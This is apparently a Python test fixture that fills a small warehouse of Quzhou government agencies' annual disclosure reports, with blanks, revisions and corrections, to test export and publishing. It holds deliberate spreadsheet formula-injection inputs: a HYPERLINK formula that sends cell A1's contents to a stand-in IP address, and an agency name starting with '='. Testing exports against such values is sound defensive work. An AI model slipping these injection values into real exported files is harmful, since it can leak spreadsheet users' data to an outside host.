"""A small warehouse to export and publish: three agencies, three forms, blanks, a revision, a correction, odd texts."""

from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, datetime
from decimal import Decimal

from sqlalchemy import update

from schema.catalog import catalog
from schema.records import TOTAL, Observation, Report, Status
from tests.warehouse.build import AGENCY, PORTALS, observation, reading, report, visit
from warehouse.archive import Location
from warehouse.corrections import put_corrections
from warehouse.corrections_file import Correction
from warehouse.engine import Engine, open_warehouse, writing
from warehouse.ledger import finish_run, register_portals, start_run
from warehouse.load import Visit, store
from warehouse.results import Expect
from warehouse.tables import run

OTHER = "衢州市教育局"
FORMULA = '=HYPERLINK("http://198.51.100.1/?"&A1,"年报")'
ENDED = datetime(2026, 2, 3, 4, 5, 6, tzinfo=UTC)

_REQUEST = "request.received"


def fill_new(url: str, *, backwards: bool = False) -> None:
    """Make a warehouse and fill it."""
    engine = open_warehouse(url)
    register_portals(engine, PORTALS)
    run_id = start_run(engine, command="crawl", portals=[row.id for row in PORTALS], years=[2018]).id
    fill(engine, run_id, backwards=backwards)
    engine.dispose()


def fill(engine: Engine, run_id: int, *, backwards: bool = False) -> None:
    """Load everything and end the run. The order of loading leaves no trace but in the numbers of rows."""
    visits = visits_of(run_id)
    for one in reversed(visits) if backwards else visits:
        store(engine, one)
    put_corrections(engine, [Correction(OTHER, 2019, _REQUEST, TOTAL, "250", Decimal(25), "the total", Expect.PRINTED)])
    finish(engine, run_id)


def finish(engine: Engine, run_id: int) -> None:
    """End the run at a moment that no clock tells."""
    finish_run(engine, run_id, status="done")
    with writing(engine) as connection:
        connection.execute(update(run).where(run.c.id == run_id).values(started_at=ENDED, finished_at=ENDED))


def visits_of(run_id: int) -> Sequence[Visit]:
    """What was found, each at its place in the archive."""
    found = [
        of(AGENCY, 2018, [("proactive.total", "3457"), (_REQUEST, "12"), ("capacity.budget", "0.37")]),
        of(AGENCY, 2019, [(_REQUEST, "15"), ("request.carried_in", None)]),
        of(AGENCY, 2021, [(_REQUEST, "20")]),
        of(OTHER, 2018, [(_REQUEST, None), ("proactive.total", "88")]),
        of(OTHER, 2019, [(_REQUEST, "250"), ("request.carried_in", "1")]),
        of("=衢州市司法局", 2018, [(_REQUEST, "7")]),
    ]
    visits = [read_at(run_id, each, number) for number, each in enumerate(found)]
    changed = of(AGENCY, 2021, [(_REQUEST, "21")])
    return [*visits, read_at(run_id, changed, 2, day=30, place=99)]


def read_at(run_id: int, read: Report, number: int, day: int = 0, place: int | None = None) -> Visit:
    """A visit to the page of that number, whose record is at that place of the archive."""
    url = f"http://www.qz.gov.cn/art/{number}.html"
    one = visit(run_id, reading(read), url, day)
    at = Location("a.warc.gz", 1000 * (place or number), 500)
    return replace(one, location=at)


def of(agency: str, year: int, figures: Sequence[tuple[str, str | None]], **other: object) -> Report:
    """A report with its year's form, whose first label and text are formulas to a spreadsheet."""
    form = "2014" if year < 2019 else "2019" if year < 2021 else "2021"
    rows = {row.indicator: row for row in catalog().forms[form].rows}
    cells = [_cell(rows[code].label_zh, rows[code].unit_zh, code, value) for code, value in figures]
    dashes = [observation("complaints.total", None, status=Status.DASH, raw="-", label=FORMULA, unit="件")]
    applicants = [_cell("自然人", "件", _REQUEST, "3", "natural_person")] if year >= 2019 else dashes
    fields: dict[str, object] = {"agency": agency, "year": year, "form": form, "title": f"{agency}{year}年度报告"}
    return report(**fields | {"observations": (*cells, *applicants)} | other)  # type: ignore[arg-type]


def _cell(label: str, unit: str, code: str, value: str | None, applicant: str = TOTAL) -> Observation:
    return observation(code, value, label=label, unit=unit, applicant=applicant)
